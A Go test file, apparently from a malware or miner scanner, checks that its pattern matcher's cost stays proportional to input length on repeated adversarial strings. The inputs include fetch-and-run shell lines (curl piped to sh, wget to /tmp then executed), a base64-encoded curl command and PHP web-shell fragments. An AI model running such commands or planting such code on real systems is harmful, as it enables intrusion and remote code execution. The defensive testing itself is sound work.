package match

import (
	"bytes"
	"strings"
	"testing"

	"github.com/deminer/deminer/internal/host/hosttest"
)

// TestHostileTextEnds: text made to cost as much as it can costs in step with its length.
func TestHostileTextEnds(t *testing.T) {
	s := shipped(t)
	for _, p := range []string{"curl http://192.0.2.4/a|sh\n", "$(curl ", "'\"`$(", "grep 'a|b", `\x63\x75`, "{\"method\":\"login\"}", "{\"a", "a.b.c.", "sudo ", "<?php eval($_POST[", "<% Process.", "$_POST[a](",
		"wget http://192.0.2.4/a -O /tmp/a\n/tmp/a\n", "0 0 0 0 0 ", "curl -o /tmp/x http://a/x;", "YmFzaCAtYyBjdXJsIGh0dHA6Ly8xLjIuMy40Cg==\n", "["} {
		hosttest.Growth(t, p+" repeated", 64<<10, func(n int) {
			text := strings.Repeat(p, n/len(p))
			if _, err := s.File(t.Context(), bytes.NewReader([]byte(text)), int64(len(text))); err != nil {
				t.Fatal(err)
			}
			s.Memory(t.Context(), []byte(text))
		})
	}
}
